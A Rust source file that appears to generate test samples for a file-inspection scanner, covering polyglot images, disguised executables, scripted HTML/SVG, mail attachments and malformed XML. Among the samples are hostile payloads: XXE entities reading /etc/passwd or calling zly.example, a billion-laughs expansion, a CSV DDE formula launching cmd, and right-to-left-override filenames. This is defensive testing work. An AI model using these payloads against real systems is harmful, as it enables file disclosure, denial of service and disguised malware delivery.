//! Pictures, pages, mail, programs and what is two things at once.

use obieg_inspect::{Finding, Media};

use super::{Class, class, deep, named, script};
use crate::make::{gif, jpeg, mail, pdf, png, windows, zip};

pub(super) fn others() -> Vec<Class> {
    use Finding::*;
    use Media::{Gif, Html, Jpeg, Mail, Other, Pdf, Png, Svg, Text, Xml};
    vec![
        class("PNG of more than 40 million points", Png, &[Pixels], |d| {
            (named(d, "png"), png(8000, 5001, d))
        }),
        class("JPEG of more than 40 million points", Jpeg, &[Pixels], |d| {
            (named(d, "jpg"), jpeg(65_000, 65_000, d))
        }),
        class("GIF of more than 40 million points", Gif, &[Pixels], |d| {
            (named(d, "gif"), gif(65_535, 65_535, d))
        }),
        class("PNG of which only the beginning came", Png, &[Broken], |d| {
            (named(d, "png"), b"\x89PNG\r\n\x1A\n\0\0".to_vec())
        }),
        class("GIF and JavaScript", Gif, &[Pixels, Polyglot], |d| {
            (named(d, "gif"), [b"GIF89a=1;/*", d.words(5).as_bytes(), b"*/alert(1)"].concat())
        }),
        class("PNG and HTML", Png, &[Polyglot], |d| {
            let mut bytes = png(10, 10, d);
            bytes.extend(b"<HTML><body>");
            (named(d, "png"), bytes)
        }),
        class("JPEG and ZIP", Jpeg, &[Polyglot], |d| {
            let mut bytes = jpeg(10, 10, d);
            bytes.extend(zip(&[("a.txt", b"tekst".to_vec())]));
            (named(d, "jpg"), bytes)
        }),
        class("JPEG and RAR", Jpeg, &[Polyglot], |d| {
            let mut bytes = jpeg(10, 10, d);
            bytes.extend(b"Rar!\x1A\x07\0");
            (named(d, "jpg"), bytes)
        }),
        class("PNG with a Windows program behind", Png, &[Program], |d| {
            let mut bytes = png(10, 10, d);
            bytes.extend(windows(d));
            (named(d, "png"), bytes)
        }),
        class("text and PDF", Text, &[Polyglot], |d| {
            (named(d, "txt"), format!("{}\n%PDF-1.4\n1 0 obj\n%%EOF\n", d.words(5)).into_bytes())
        }),
        class("HTML", Html, &[Page], |d| {
            (named(d, "html"), format!("<!DOCTYPE html><p>{}</p>", d.words(9)).into_bytes())
        }),
        class("HTML with a script", Html, &[Page, Script], |d| {
            (named(d, "html"), format!("<html><script>{}</script></html>", d.words(2)).into_bytes())
        }),
        class("HTML with a form", Html, &[Page, Script], |d| {
            (
                named(d, "htm"),
                format!("<html><form action='https://zly.example/{}'></form></html>", d.up_to(99))
                    .into_bytes(),
            )
        }),
        class("HTML that leads elsewhere", Html, &[Page, Script], |d| {
            (
                named(d, "html"),
                format!("<html><meta HTTP-EQUIV=\"refresh\" content=\"{}\"></html>", d.up_to(9)).into_bytes(),
            )
        }),
        class("HTML that begins as text", Text, &[Script], |d| {
            (named(d, "html"), format!("<p>{}<script>a</script>", d.words(3)).into_bytes())
        }),
        class("SVG with a script", Svg, &[Script], |d| {
            (
                named(d, "svg"),
                format!("<svg xmlns=\"s\"><title>{}</title><script>a</script></svg>", d.words(2))
                    .into_bytes(),
            )
        }),
        class("SVG with a handler", Svg, &[Script], |d| {
            (
                named(d, "svg"),
                format!("<svg xmlns=\"s\" onload=\"a()\"><title>{}</title></svg>", d.words(2)).into_bytes(),
            )
        }),
        class("SVG with a page in it", Svg, &[Script], |d| {
            (
                named(d, "svg"),
                format!("<svg xmlns=\"s\"><foreignObject><p>{}</p></foreignObject></svg>", d.words(2))
                    .into_bytes(),
            )
        }),
        class("XML with a document type", Xml, &[Doctype], |d| {
            (
                named(d, "xml"),
                format!("<?xml version=\"1.0\"?><!DOCTYPE a SYSTEM \"a.dtd\"><a>{}</a>", d.words(2))
                    .into_bytes(),
            )
        }),
        class("XML that reads a file", Xml, &[Entities], |d| {
            (named(d, "xml"), format!("<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><a>&e;{}</a>", d.words(2)).into_bytes())
        }),
        class("XML that calls an address", Xml, &[Entities], |d| {
            (named(d, "xml"), format!("<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY % e SYSTEM \"http://zly.example/{}\"> %e;]><a/>", d.up_to(99)).into_bytes())
        }),
        class("XML that explodes", Xml, &[Entities], |d| {
            let mut text = String::from("<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY a0 \"x\">");
            for at in 1..10 {
                text += &format!("<!ENTITY a{at} \"{}\">", format!("&a{};", at - 1).repeat(10));
            }
            text += &format!("]><a>&a9;{}</a>", d.words(1));
            (named(d, "xml"), text.into_bytes())
        }),
        class("XML with an entity that nobody knows", Xml, &[Entities], |d| {
            (
                named(d, "xml"),
                format!(
                    "<?xml version=\"1.0\"?><a>&{};</a>",
                    d.words(1).replace(|letter: char| !letter.is_ascii(), "")
                )
                .into_bytes(),
            )
        }),
        class("XML in UTF-16 that reads a file", Other, &[Entities], |d| {
            let text = format!(
                "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><a>&e;{}</a>",
                d.words(2)
            );
            let mut bytes = b"\xFF\xFE".to_vec();
            bytes.extend(text.encode_utf16().flat_map(u16::to_le_bytes));
            (named(d, "xml"), bytes)
        }),
        class("XML 201 deep", Xml, &[XmlDeep], |d| (named(d, "xml"), deep(201))),
        class("XML 200,000 deep", Xml, &[XmlDeep], |d| (named(d, "xml"), deep(200_000))),
        class("XML that is not one", Xml, &[Broken], |d| {
            (named(d, "xml"), format!("<?xml version=\"1.0\"?><a><b>{}</a>", d.words(2)).into_bytes())
        }),
        class("CSV that starts a program", Text, &[Dde], |d| {
            (named(d, "csv"), format!("a;{};=cmd|' /C calc'!A0\n", d.words(1)).into_bytes())
        }),
        class("Windows program", Other, &[Program], |d| (named(d, "exe"), windows(d))),
        class("Windows program called a PDF", Other, &[NameDiffers, Program], |d| {
            (named(d, "pdf"), windows(d))
        }),
        class("Linux program", Other, &[Program], |d| {
            let mut bytes = b"\x7FELF\x02\x01\x01\0".to_vec();
            bytes.extend(d.bytes(60));
            (named(d, "bin"), bytes)
        }),
        class("shortcut of Windows", Other, &[Program], |d| {
            let mut bytes = b"\x4C\0\0\0\x01\x14\x02\0".to_vec();
            bytes.extend(d.bytes(60));
            (named(d, "lnk"), bytes)
        }),
        class("shell script", Text, &[Program], |d| {
            (named(d, "txt"), format!("#!/bin/sh\necho {}\n", d.words(1)).into_bytes())
        }),
        class("script by its name", Text, &[Program], |d| (named(d, "vbs"), d.words(5).into_bytes())),
        class("program behind a second ending", Text, &[Program], |d| {
            (format!("{}.pdf.js", d.words(1)), d.words(5).into_bytes())
        }),
        class("name that reads backwards", Text, &[NameHidden, Program], |d| {
            (format!("{}\u{202E}fdp.exe", d.words(1)), d.words(5).into_bytes())
        }),
        class("name with spaces before its ending", Text, &[NameHidden, Program], |d| {
            (format!("{}.pdf{}.bat", d.words(1), " ".repeat(60)), d.words(5).into_bytes())
        }),
        class("PNG called a PDF", Png, &[NameDiffers], |d| (named(d, "pdf"), png(10, 10, d))),
        class("empty file", Other, &[Empty, NameDiffers], |d| (named(d, "pdf"), Vec::new())),
        class("message with a program", Mail, &[Program], |d| {
            let program = windows(d);
            (named(d, "eml"), mail("faktura.exe", &program))
        }),
        class("message of 100,000 messages inside each other", Mail, &[], |d| {
            let mut bytes = b"From: a@example.org\r\nTo: b@example.org\r\n".to_vec();
            for _ in 0..100_000 {
                bytes.extend(b"Content-Type: message/rfc822\r\n\r\n");
            }
            (named(d, "eml"), bytes)
        }),
        class("message with a PDF with JavaScript", Mail, &[PdfScript], |d| {
            let content = pdf(d, |_, catalogue| catalogue.set("OpenAction", script()));
            (named(d, "eml"), mail("faktura.pdf", &content))
        }),
        class("PDF and nothing else that a scanner wrote twice", Pdf, &[], |d| {
            // A document with a later change behind it: honest, signed files look so.
            let mut bytes = pdf(d, |_, _| {});
            bytes.extend(b"\n%%EOF\n");
            (named(d, "pdf"), bytes)
        }),
    ]
}
